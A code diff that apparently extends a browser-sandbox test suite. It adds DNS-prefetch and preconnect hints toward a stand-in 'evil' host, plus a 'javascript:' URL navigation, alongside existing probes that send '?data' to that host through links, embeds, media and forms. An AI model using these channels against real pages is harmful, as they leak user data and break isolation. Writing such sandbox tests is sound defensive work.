@@ -131,6 +131,14 @@ const loads = ({ root, evil }) => {
     return loaded.finally(() => element.remove());
   };
   const link = (rel, more = {}) => () => add('link', { rel, href: `${evil}/${rel}?data`, ...more });
+  // These load nothing, and say nothing of what they did.
+  const hint = rel => async () => {
+    const element = Object.assign(document.createElement('link'), { rel, href: evil });
+    document.head.append(element);
+    await new Promise(resolve => setTimeout(resolve, 200));
+    element.remove();
+    refuse('only a server knows');
+  };
   const style = css => async () => {
     const element = Object.assign(document.createElement('style'), { textContent: css });
     const text = Object.assign(document.createElement('p'), { className: 'hostile-style', textContent: 'x' });
@@ -151,6 +159,8 @@ const loads = ({ root, evil }) => {
     prerender: link('prerender'),
     icon: link('icon'),
     manifest: link('manifest'),
+    preconnect: hint('preconnect'),
+    'dns-prefetch': hint('dns-prefetch'),
     object: () => add('object', { data: `${evil}/object?data` }),
     embed: () => add('embed', { src: `${evil}/embed?data` }),
     video: () => settled(Object.assign(document.createElement('video'), { src: `${evil}/video?data`, preload: 'auto' }), 'loadeddata'),
@@ -315,6 +325,8 @@ const endings = {
     form.submit();
   },
   download: () => follow({ href: 'data:text/plain,hostile', download: 'hostile.txt' }),
+  back: () => history.back(),
+  code: ({ host }) => host.navigate('javascript:globalThis.hostile = true'),
   navigate: ({ host, evil }) => host.navigate(`${evil}/navigate?data`),
 };
 
